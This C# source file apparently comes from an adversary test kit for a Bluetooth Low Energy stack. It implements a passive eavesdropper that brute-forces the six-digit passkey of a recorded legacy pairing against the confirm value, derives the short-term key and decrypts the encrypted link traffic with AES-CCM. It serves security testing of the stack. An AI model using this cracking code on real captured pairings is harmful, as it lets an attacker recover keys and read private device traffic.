using System;
using System.Buffers.Binary;
using System.Collections.Generic;
using System.Linq;
using System.Security.Cryptography;
using BleStack.Adversary;
using BleStack.Core;
using BleStack.Crypto;
using TestKit.Stack;

namespace Adversary.Tests.Kit;

/// <summary>A passive attacker: records the SMP of one legacy pairing, tries every passkey against the confirm values, and decrypts with
/// the resulting key, [Vol 3, Part H] 2.3.5.5 and [Vol 6, Part E] 1. Values are most significant octet first.</summary>
internal sealed class Eavesdropper
{
    private const int Header = 2, Mic = 4, SmpChannel = 6, Passkeys = 1_000_000;
    private const byte Control = 0b11, EncReq = 0x03, EncRsp = 0x04;

    private readonly List<(bool FromCentral, bool IsEncrypted, byte[] Octets)> _data;
    private List<(bool FromCentral, byte[] Pdu)>? _smp;
    private readonly BleAddress _central;
    private readonly BleAddress _peripheral;

    public Eavesdropper(Recorder recorder, BleAddress central, BleAddress peripheral)
    {
        _data =
        [
            .. recorder
                .Pdus.ToArray()
                .Where(pdu => !pdu.IsAdvertising && !pdu.IsLost && pdu.Octets.Length > Header)
                .Select(pdu => (pdu.FromCentral, pdu.IsEncrypted, pdu.Octets)),
        ];
        (_central, _peripheral) = (central, peripheral);
    }

    /// <summary>The unencrypted SMP PDUs, in order.</summary>
    public List<(bool FromCentral, byte[] Pdu)> Smp =>
        _smp ??= [
            .. _data.Where(pdu => !pdu.IsEncrypted).Select(pdu => (pdu.FromCentral, SmpOf(pdu.Octets))).Where(pdu => pdu.Item2.Length > 0),
        ];

    /// <summary>The passkey of the recorded legacy pairing, searched from 0 on: all million take seconds.</summary>
    public uint? CrackPasskey()
    {
        for (uint passkey = 0; passkey < Passkeys; passkey++)
        {
            if (Fits(passkey)) return passkey;
        }

        return null;
    }

    /// <summary>True when a passkey matches the recorded confirm value.</summary>
    public bool Fits(uint passkey)
    {
        byte[] computed = new byte[16];
        SmpFunctions.C1(
            SmpAttacker.Passkey(passkey),
            Value(Heard(0x04, true)),
            Heard(0x01, true),
            Heard(0x02, false),
            _central,
            _peripheral,
            computed
        );
        return computed.AsSpan().SequenceEqual(Value(Heard(0x03, true)));
    }

    /// <summary>STK of a passkey: s1(TK, Srand, Mrand).</summary>
    public byte[] ShortTermKey(uint passkey)
    {
        byte[] key = new byte[16];
        SmpFunctions.S1(SmpAttacker.Passkey(passkey), Value(Heard(0x04, false)), Value(Heard(0x04, true)), key);
        return key;
    }

    /// <summary>Every SMP PDU that was sent encrypted with this key, decrypted; empty when the key is wrong.</summary>
    public List<byte[]> Read(byte[] key)
    {
        byte[] request = LinkControl(EncReq), response = LinkControl(EncRsp);
        byte[] skd = [.. request.AsSpan(11, 8), .. response.AsSpan(1, 8)], iv = [.. request.AsSpan(19, 4), .. response.AsSpan(9, 4)];
        Array.Reverse(skd);
        byte[] session = new byte[16];
        AesKey.Encrypt(key, skd, session);
        using var cipher = new AesCcm(session);
        ulong[] counters = new ulong[2];
        List<byte[]> read = [];
        foreach ((bool fromCentral, _, byte[] octets) in _data.Where(pdu => pdu.IsEncrypted))
        {
            byte[] plain = Open(cipher, iv, octets, fromCentral, counters[fromCentral ? 1 : 0]++);
            if (plain.Length > 0 && SmpOf([octets[0], (byte)plain.Length, .. plain]) is { Length: > 0 } smp) read.Add(smp);
        }

        return read;
    }

    private static byte[] Value(byte[] pdu) => [.. pdu.Skip(1).Reverse()];

    private static byte[] SmpOf(byte[] octets) =>
        octets.Length > Header + 4 && (octets[0] & 3) != Control && octets[4] == SmpChannel && octets[5] == 0 ? octets[(Header + 4)..] : [];

    private static byte[] Open(AesCcm cipher, byte[] iv, byte[] octets, bool fromCentral, ulong counter)
    {
        byte[] nonce = new byte[13], plain = new byte[octets.Length - Header - Mic];
        BinaryPrimitives.WriteUInt64LittleEndian(nonce, counter);
        nonce[4] = (byte)(fromCentral ? 0x80 : 0);
        iv.CopyTo(nonce, 5);
        try
        {
            cipher.Decrypt(
                nonce,
                octets.AsSpan(Header, plain.Length),
                octets.AsSpan(Header + plain.Length),
                plain,
                [(byte)(octets[0] & 0xE3)]
            );
            return plain;
        }
        catch (AuthenticationTagMismatchException)
        {
            return [];
        }
    }

    private byte[] Heard(byte code, bool fromCentral) => Smp.First(pdu => pdu.FromCentral == fromCentral && pdu.Pdu[0] == code).Pdu;

    private byte[] LinkControl(byte opcode) =>
        _data.First(pdu => (pdu.Octets[0] & 3) == Control && !pdu.IsEncrypted && pdu.Octets[Header] == opcode).Octets[Header..];
}
